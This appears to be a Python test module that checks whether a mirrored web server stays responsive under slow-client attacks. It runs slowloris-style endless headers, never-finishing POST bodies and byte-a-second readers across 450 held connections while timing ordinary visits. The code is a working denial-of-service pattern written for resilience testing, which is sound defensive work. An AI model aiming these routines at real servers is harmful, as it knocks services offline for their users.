"""Connections that take their time, and what ordinary visitors notice of them. At most 500, for at most 20 seconds."""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from collections.abc import Callable

from attacks.table import Field, Seen, attack
from attacks.wire import Site

CONNECTIONS = 450
SECONDS = 5.0
EVERY = 0.1
SETTLED = 8.0


def visit(site: Site, seconds: float) -> list[float]:
    """How long ordinary requests took, one every tenth of a second; a lost one counts as 60 s."""
    took = []
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        started = time.monotonic()
        answer = site.get("/visit")
        took.append(time.monotonic() - started if answer.status == 200 else 60.0)
        time.sleep(max(0.0, EVERY - (time.monotonic() - started)))
    return took


def beside(site: Site, first: bytes, drop: Callable[[socket.socket], None]) -> tuple[list[float], list[float], int]:
    """Visit alone, then while connections send `first` and now and then a drop; return both, and how many were held."""
    alone = visit(site, 2)
    held: list[socket.socket] = []
    try:
        for dummy in range(CONNECTIONS):
            with contextlib.suppress(OSError):
                client = site.connect(3)
                held.append(client)
                client.sendall(first)
        # What they asked for is work like any other; it is their slowness that is measured.
        until = time.monotonic() + SETTLED
        while time.monotonic() < until and max(visit(site, EVERY * 3)) > 0.2:
            pass
        stop = threading.Event()

        def drip() -> None:
            while not stop.wait(1.0):
                for client in held:
                    with contextlib.suppress(OSError):
                        drop(client)

        thread = threading.Thread(target=drip)
        thread.start()
        attacked = visit(site, SECONDS)
        stop.set()
        thread.join()
    finally:
        for client in held:
            client.close()
    return alone, attacked, len(held)


def told(result: tuple[list[float], list[float], int]) -> Seen:
    """In words: none may be lost, and the slowest must not take seconds longer."""
    alone, attacked, held = result
    lost = sum(1 for each in attacked if each >= 60)
    slowest = [max(times) * 1000 for times in (alone, attacked)]
    middle = [sorted(times)[len(times) // 2] * 1000 for times in (alone, attacked)]
    words = (
        f"{held} connections; {len(attacked)} visits, {lost} lost; median {middle[0]:.0f} ms alone, {middle[1]:.0f} ms"
        f" beside them; slowest {slowest[0]:.0f} and {slowest[1]:.0f} ms"
    )
    return Seen(words, held > CONNECTIONS * 0.9 and lost == 0 and max(attacked) < max(alone) + 1.0)


CALM = "no ordinary visit is lost, none takes a second longer than before"


@attack("slow clients", f"slowloris: {CONNECTIONS} heads that never end", CALM)
def heads(field: Field) -> Seen:
    site = field["mirror"]
    first = f"GET /slow HTTP/1.1\r\nHost: {site.host}\r\n".encode()
    return told(beside(site, first, lambda client: client.sendall(b"X-a: b\r\n")))


@attack("slow clients", f"{CONNECTIONS} bodies that never end", CALM)
def bodies(field: Field) -> Seen:
    site = field["mirror"]
    first = f"POST /slow HTTP/1.1\r\nHost: {site.host}\r\nContent-Length: 100000\r\n\r\n".encode()
    return told(beside(site, first, lambda client: client.sendall(b"x")))


@attack("slow clients", f"{CONNECTIONS} readers of a large page who read a byte a second", CALM)
def readers(field: Field) -> Seen:
    site = field["mirror"]
    first = f"GET /large HTTP/1.1\r\nHost: {site.host}\r\n\r\n".encode()
    return told(beside(site, first, lambda client: (client.recv(1), None)[1]))


@attack("patience", "a head that never ends", "the connection is ended within 20 s")
def ended(field: Field) -> Seen:
    site = field["mirror"]
    started = time.monotonic()
    with site.connect(20) as client:
        client.sendall(f"GET /slow HTTP/1.1\r\nHost: {site.host}\r\n".encode())
        client.settimeout(20)
        try:
            got = client.recv(100)
        except ConnectionError:
            got = b""
        except TimeoutError:
            return Seen("still open after 20 s", False)
    took = time.monotonic() - started
    return Seen(f"ended after {took:.0f} s{', with ' + got.split()[1].decode() if got else ''}", True)
